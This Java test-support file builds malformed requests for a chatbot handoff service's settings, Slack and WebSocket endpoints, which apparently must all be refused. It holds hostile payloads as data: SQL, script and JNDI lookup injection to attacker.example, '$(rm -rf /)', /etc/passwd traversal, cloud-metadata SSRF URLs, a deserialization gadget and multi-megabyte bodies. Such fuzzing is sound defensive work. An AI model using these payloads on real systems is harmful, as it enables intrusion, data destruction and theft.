package io.handoff.local;

import java.net.URLEncoder;
import java.nio.charset.StandardCharsets;
import java.util.ArrayList;
import java.util.List;
import java.util.Map;

/**
 * Requests a careless or hostile client sends to the settings API: bodies that are not JSON, values
 * of the wrong type, fields that do not exist, huge and deeply nested bodies, injection strings in
 * ids and values, wrong content types. Each one must be refused with a 4xx problem document.
 */
final class MalformedRequests {

    /** One request: method, path below the router, content type (null: none), body. */
    record Request(String kind, String method, String path, String contentType, byte[] body) {

        String describe() {
            String shown = new String(body, 0, Math.min(body.length, 80), StandardCharsets.UTF_8);
            return kind + ": " + method + " " + (path.length() > 80 ? path.substring(0, 80) + "…" : path)
                    + " [" + contentType + ", " + body.length + " bytes] " + shown;
        }
    }

    /** Strings that mean harm elsewhere: SQL, script, template, lookup, path and shell injection. */
    static final List<String> INJECTIONS = List.of(
            "'; DROP TABLE chatbot_settings; --",
            "\" OR \"1\"=\"1",
            "<script>alert(1)</script>",
            "${jndi:ldap://attacker.example/a}",
            "{{7*7}}",
            "../../../../etc/passwd",
            "$(rm -rf /)",
            "%00%0d%0aSet-Cookie: x=1",
            "\u0000null byte",
            "𝕌𝕟𝕚𝕔𝕠𝕕𝕖 ‮ right-to-left");

    private static final String JSON = "application/json";

    private MalformedRequests() {
    }

    /** Everything wrong with a {@code PUT /api/v1/chatbots/{id}/settings}, for the chatbot {@code chatbotId}. */
    static List<Request> settings(String chatbotId) {
        String path = "/api/v1/chatbots/" + chatbotId + "/settings";
        List<Request> all = new ArrayList<>();
        for (String body : invalidJson()) {
            all.add(put("invalid JSON", path, body));
        }
        wrongTypes().forEach((field, values) -> {
            for (String value : values) {
                all.add(put("wrong type", path, "{\"" + field + "\": " + value + "}"));
            }
        });
        for (String body : unknownFields()) {
            all.add(put("unknown field", path, body));
        }
        for (String body : invalidValues()) {
            all.add(put("invalid value", path, body));
        }
        for (String injection : INJECTIONS) {
            String quoted = jsonString(injection);
            all.add(put("injection in a value", path, "{\"email\": {\"enabled\": true, \"recipients\": " + quoted + "}}"));
            all.add(put("injection in a value", path, "{\"webhook\": {\"enabled\": true, \"url\": " + quoted + "}}"));
            all.add(put("injection in a value", path, "{\"handoffLevel\": " + quoted + "}"));
            all.add(put("injection in a value", path, "{\"businessHours\": {\"timeZone\": " + quoted + "}}"));
            all.add(put("injection in a value", path, "{\"backupContacts\": [" + quoted + "]}"));
            all.add(put("injection in a field name", path, "{" + quoted + ": true}"));
            String injectedPath = "/api/v1/chatbots/" + URLEncoder.encode(injection, StandardCharsets.UTF_8)
                    .replace("+", "%20") + "/settings";
            all.add(put("injection in the id", injectedPath, "{\"name\": " + quoted + ", \"unknown\": 1}"));
            all.add(put("injection in the id", injectedPath, "{\"responseSlaMinutes\": \"soon\"}"));
        }
        all.addAll(hugeAndDeep(path));
        for (String contentType : List.of("text/plain", "application/xml", "application/x-www-form-urlencoded",
                "multipart/form-data; boundary=x", "application/octet-stream", "text/html")) {
            all.add(new Request("wrong content type", "PUT", path, contentType,
                    "{\"name\": \"x\"}".getBytes(StandardCharsets.UTF_8)));
        }
        all.add(new Request("invalid UTF-8", "PUT", path, JSON, invalidUtf8()));
        return all;
    }

    /** Everything wrong with a {@code PUT} to notifier-slack's connections API at {@code path}. */
    static List<Request> slackConnections(String path) {
        List<Request> all = new ArrayList<>();
        for (String body : List.of("{", "[", "{\"botToken\": }", "{'botToken': 'x'}", "{\"botToken\": \"x\",}", "null",
                "42", "[]", "\"text\"", "NaN", "<xml/>", "\u0000")) {
            all.add(put("invalid JSON", path, body));
        }
        for (String body : List.of("{\"botToken\": {}}", "{\"botToken\": []}", "{\"channelId\": {}}",
                "{\"channelId\": [\"C1\"]}", "{\"botToken\": [\"xoxb-1\"], \"channelId\": \"C1\"}")) {
            all.add(put("wrong type", path, body));
        }
        for (String body : List.of("{}", "{\"botToken\": \"\", \"channelId\": \"\"}", "{\"channelId\": \"C1\"}",
                "{\"botToken\": \"xoxb-1\"}")) {
            all.add(put("invalid value", path, body));
        }
        for (String injection : INJECTIONS) {
            all.add(put("injection in a value", path, "{\"botToken\": " + jsonString(injection)
                    + ", \"channelId\": " + jsonString(injection) + "}"));
        }
        int megabytes = 5 * 1024 * 1024;
        all.add(put("huge body", path, "{\"botToken\": \"" + "x".repeat(megabytes) + "\", \"channelId\": \"C1\"}"));
        all.add(put("deep nesting", path, "[".repeat(100_000) + "]".repeat(100_000)));
        all.add(put("deep nesting", path, "{\"botToken\": " + "{\"a\": ".repeat(50_000) + "1" + "}".repeat(50_001)));
        for (String contentType : List.of("text/plain", "application/xml", "application/x-www-form-urlencoded")) {
            all.add(new Request("wrong content type", "PUT", path, contentType,
                    "{\"botToken\": \"x\"}".getBytes(StandardCharsets.UTF_8)));
        }
        all.add(new Request("invalid UTF-8", "PUT", path, JSON, invalidUtf8()));
        return all;
    }

    /** A WebSocket handshake an agent's client would never send. */
    record Handshake(String description, String method, String query, Map<String, String> headers) {
    }

    /** Handshakes to the gateway's {@code /ws/agent} that must be refused with a 4xx before any upgrade. */
    static List<Handshake> handshakes(String validToken, String expiredToken) {
        Map<String, String> upgrade = Map.of("Upgrade", "websocket", "Connection", "Upgrade",
                "Sec-WebSocket-Key", "dGhlIHNhbXBsZSBub25jZQ==", "Sec-WebSocket-Version", "13");
        String token = "?access_token=" + validToken;
        List<Handshake> all = new ArrayList<>();
        all.add(new Handshake("no upgrade", "GET", token, Map.of()));
        all.add(new Handshake("no token", "GET", "", upgrade));
        all.add(new Handshake("empty token", "GET", "?access_token=", upgrade));
        all.add(new Handshake("garbage token", "GET", "?access_token=garbage", upgrade));
        all.add(new Handshake("forged token", "GET", token + "x", upgrade));
        all.add(new Handshake("expired token", "GET", "?access_token=" + expiredToken, upgrade));
        all.add(new Handshake("huge token", "GET", "?access_token=" + "a".repeat(6_000), upgrade));
        for (String injection : INJECTIONS) {
            all.add(new Handshake("injection in the token", "GET",
                    "?access_token=" + URLEncoder.encode(injection, StandardCharsets.UTF_8), upgrade));
        }
        all.add(new Handshake("garbage subprotocol token", "GET", "", Map.of("Upgrade", "websocket", "Connection", "Upgrade",
                "Sec-WebSocket-Key", "dGhlIHNhbXBsZSBub25jZQ==", "Sec-WebSocket-Version", "13",
                "Sec-WebSocket-Protocol", "handoff.v2, bearer.garbage")));
        all.add(new Handshake("after is not a number", "GET", token + "&after=abc", upgrade));
        all.add(new Handshake("after is out of range", "GET", token + "&after=99999999999999999999999", upgrade));
        all.add(new Handshake("after is injected", "GET", token + "&after=" + URLEncoder.encode("1; DROP TABLE x", StandardCharsets.UTF_8), upgrade));
        all.add(new Handshake("no key", "GET", token, Map.of("Upgrade", "websocket", "Connection", "Upgrade",
                "Sec-WebSocket-Version", "13")));
        all.add(new Handshake("unknown version", "GET", token, Map.of("Upgrade", "websocket", "Connection", "Upgrade",
                "Sec-WebSocket-Key", "dGhlIHNhbXBsZSBub25jZQ==", "Sec-WebSocket-Version", "99")));
        return all;
    }

    /** Bodies that are not one JSON object. */
    private static List<String> invalidJson() {
        return List.of("", " ", "\n\t", "{", "}", "[", "]", "{{}}", "{\"name\": \"x\"", "{\"name\": }",
                "{name: \"x\"}", "{'name': 'x'}", "{\"name\": \"x\",}", "{\"name\" \"x\"}", "{\"name\": \"x\"}}",
                "{} {}", "{}garbage", "{\"name\": \"x\"} trailing", "null", "true", "42", "-1.5e3", "\"settings\"",
                "[]", "[{}]", "[{\"name\": \"x\"}]", "NaN", "{\"responseSlaMinutes\": NaN}",
                "{\"responseSlaMinutes\": Infinity}", "{\"responseSlaMinutes\": 0x10}", "{\"responseSlaMinutes\": 015}",
                "{\"name\": \"x\" /* comment */}", "// comment\n{}", "{\"name\": \"tab\tinside\"}",
                "{\"name\": \"\\x41\"}", "{\"name\": \"\\u12\"}", "\u0000", "\u0000{}", "\uFEFF\uFEFF{}",
                "<settings><name>x</name></settings>", "name=x&offerFirst=false", "{\"name\": undefined}",
                "{\"a\": 1, \"a\": 2, ", "{\"name\": \"x\"}\u0000");
    }

    /** For each field, values of a type it cannot take. */
    private static Map<String, List<String>> wrongTypes() {
        return Map.ofEntries(
                Map.entry("name", List.of("{}", "[]", "{\"first\": \"x\"}", "[\"x\"]")),
                Map.entry("escalationsEnabled", List.of("\"maybe\"", "{}", "[]", "\"\"", "[true]")),
                Map.entry("handoffLevel", List.of("\"sometimes\"", "{}", "[]", "\"\"", "[\"quick\"]", "99")),
                Map.entry("offerFirst", List.of("\"perhaps\"", "{}", "[]", "[false]")),
                Map.entry("emailRequired", List.of("\"no thanks\"", "{}", "[]")),
                Map.entry("detection", List.of("\"strict\"", "5", "true", "[]", "[{}]", "{\"maxVisitorMessages\": \"many\"}",
                        "{\"aiConfidenceThreshold\": \"high\"}", "{\"keywords\": {}}", "{\"keywords\": [{}]}",
                        "{\"restrictedTopics\": {\"a\": 1}}", "{\"maxVisitorMessages\": []}",
                        "{\"noResolutionMinutes\": \"later\"}", "{\"declineCooldownMinutes\": {}}")),
                Map.entry("email", List.of("\"on\"", "true", "[]", "1", "{\"enabled\": \"sure\"}", "{\"recipients\": {}}",
                        "{\"recipients\": [{}]}", "{\"roundRobin\": \"yes please\"}", "{\"enabled\": []}")),
                Map.entry("slack", List.of("\"yes\"", "false", "[]", "{\"enabled\": \"x\"}", "{\"channel\": {}}",
                        "{\"channel\": [\"C1\"]}")),
                Map.entry("webhook", List.of("\"https://example.com\"", "true", "[]", "{\"enabled\": \"x\"}", "{\"url\": {}}",
                        "{\"url\": [\"https://example.com\"]}", "{\"signingSecret\": []}", "{\"signingSecret\": {}}")),
                Map.entry("responseSlaMinutes", List.of("\"soon\"", "{}", "[]", "\"15 minutes\"", "true", "1e40",
                        "99999999999999999999", "[15]")),
                Map.entry("backupContacts", List.of("{}", "true", "[{}]", "[[\"a@example.com\"]]", "[true]")),
                Map.entry("businessHours", List.of("\"9-5\"", "[]", "true", "{\"timeZone\": {}}", "{\"weekly\": \"always\"}",
                        "{\"weekly\": {\"monday\": \"09:00-17:00\"}}", "{\"weekly\": {\"monday\": [{}]}}",
                        "{\"holidays\": \"christmas\"}", "{\"holidays\": [{}]}", "{\"channelsWhenClosed\": \"email\"}")),
                Map.entry("texts", List.of("\"hello\"", "[]", "true", "{\"de\": \"hallo\"}", "{\"en\": []}",
                        "{\"en\": {\"confirmation\": {}}}", "{\"en\": {\"escalationOffer\": [\"x\"]}}")));
    }

    /** Fields the settings do not have, at the top and inside blocks. */
    private static List<String> unknownFields() {
        return List.of("{\"unknown\": 1}", "{\"Name\": \"x\"}", "{\"name \": \"x\"}", "{\"\": \"x\"}",
                "{\"email\": {\"enabled\": true, \"recipients\": \"team@example.com\", \"cc\": \"boss@example.com\"}}",
                "{\"webhook\": {\"enabled\": false, \"headers\": {\"X-A\": \"b\"}}}",
                "{\"detection\": {\"maxMessages\": 3}}", "{\"slack\": {\"token\": \"xoxb-1\"}}",
                "{\"businessHours\": {\"timeZone\": \"UTC\", \"weekly\": {\"someday\": [\"09:00-17:00\"]}}}",
                "{\"texts\": {\"en\": {\"greeting\": \"hi\"}}}",
                "{\"__proto__\": {\"admin\": true}}", "{\"constructor\": {\"prototype\": {\"admin\": true}}}",
                "{\"@class\": \"java.lang.ProcessBuilder\", \"command\": [\"id\"]}",
                "{\"$where\": \"1 == 1\"}", "{\"version\": 7}", "{\"chatbotId\": \"other-bot\"}",
                "{\"name\": \"x\", \"escalationsEnabled\": true, \"extra\": null}");
    }

    /** JSON of the right shape whose values are not acceptable. */
    private static List<String> invalidValues() {
        return List.of("{\"email\": {\"enabled\": true}}", "{\"email\": {\"enabled\": true, \"recipients\": \"not-an-email\"}}",
                "{\"email\": {\"enabled\": true, \"recipients\": \"a@example.com;;b\"}}",
                "{\"webhook\": {\"enabled\": true}}", "{\"webhook\": {\"enabled\": true, \"url\": \"ftp://example.com\"}}",
                "{\"webhook\": {\"enabled\": true, \"url\": \"javascript:alert(1)\"}}",
                "{\"webhook\": {\"enabled\": true, \"url\": \"http://169.254.169.254/latest/meta-data\"}}",
                "{\"webhook\": {\"enabled\": true, \"url\": \"http://10.0.0.1/hook\"}}",
                "{\"webhook\": {\"enabled\": true, \"url\": \"file:///etc/passwd\"}}",
                "{\"responseSlaMinutes\": 0}", "{\"responseSlaMinutes\": -15}",
                "{\"detection\": {\"aiConfidenceThreshold\": 7}}", "{\"detection\": {\"aiConfidenceThreshold\": -1}}",
                "{\"businessHours\": {\"timeZone\": \"Mars/Olympus_Mons\"}}",
                "{\"businessHours\": {\"timeZone\": \"UTC\", \"weekly\": {\"monday\": [\"25:00-26:00\"]}}}",
                "{\"businessHours\": {\"timeZone\": \"UTC\", \"weekly\": {\"monday\": [\"17:00-09:00\"]}}}",
                "{\"businessHours\": {\"timeZone\": \"UTC\", \"holidays\": [\"2026-13-45\"]}}",
                "{\"businessHours\": {\"timeZone\": \"UTC\", \"channelsWhenClosed\": [\"pigeon\"]}}",
                "{\"slack\": {\"enabled\": true}}", "{\"backupContacts\": [\"not an email\"]}");
    }

    /** Bodies of several megabytes, and nesting far deeper than any settings document. */
    private static List<Request> hugeAndDeep(String path) {
        int megabytes = 5 * 1024 * 1024;
        List<Request> all = new ArrayList<>();
        all.add(put("huge body", path, "{\"name\": \"" + "x".repeat(megabytes) + "\"}"));
        all.add(put("huge body", path, "{\"detection\": {\"keywords\": [" + "\"refund\",".repeat(megabytes / 9) + "\"x\"]}}"));
        all.add(put("huge body", path, "{\"texts\": {\"en\": {\"confirmation\": \"" + "y".repeat(megabytes) + "\"}}}"));
        all.add(put("huge body", path, " ".repeat(megabytes) + "{}"));
        all.add(put("huge body", path, "{\"backupContacts\": \"" + "a@example.com;".repeat(megabytes / 14) + "\"}"));
        all.add(put("huge body", path, "[" + "1,".repeat(megabytes / 2) + "1]"));
        all.add(put("huge body", path, "{\"name\": \"" + "x".repeat(300_000) + "\"}"));
        all.add(put("huge body", path, "{\"name\": " + "9".repeat(100_000) + "}"));
        all.add(put("deep nesting", path, "[".repeat(100_000) + "]".repeat(100_000)));
        all.add(put("deep nesting", path, "{\"detection\": " + "{\"a\": ".repeat(50_000) + "1" + "}".repeat(50_001)));
        all.add(put("deep nesting", path, "{\"texts\": {\"en\": " + "[".repeat(5_000) + "]".repeat(5_000) + "}}"));
        all.add(put("deep nesting", path, "{\"name\": " + "[".repeat(2_000) + "\"x\"" + "]".repeat(2_000) + "}"));
        return all;
    }

    private static byte[] invalidUtf8() {
        byte[] start = "{\"name\": \"".getBytes(StandardCharsets.UTF_8);
        byte[] bad = {(byte) 0xC3, (byte) 0x28, (byte) 0xFF, (byte) 0xFE, (byte) 0xED, (byte) 0xA0, (byte) 0x80};
        byte[] end = "\", \"unknown\": 1}".getBytes(StandardCharsets.UTF_8);
        byte[] body = new byte[start.length + bad.length + end.length];
        System.arraycopy(start, 0, body, 0, start.length);
        System.arraycopy(bad, 0, body, start.length, bad.length);
        System.arraycopy(end, 0, body, start.length + bad.length, end.length);
        return body;
    }

    private static Request put(String kind, String path, String body) {
        return new Request(kind, "PUT", path, JSON, body.getBytes(StandardCharsets.UTF_8));
    }

    /** {@code value} as a JSON string literal. */
    static String jsonString(String value) {
        StringBuilder out = new StringBuilder("\"");
        for (char c : value.toCharArray()) {
            switch (c) {
                case '"' -> out.append("\\\"");
                case '\\' -> out.append("\\\\");
                default -> {
                    if (c < 0x20) {
                        out.append(String.format("\\u%04x", (int) c));
                    } else {
                        out.append(c);
                    }
                }
            }
        }
        return out.append('"').toString();
    }
}
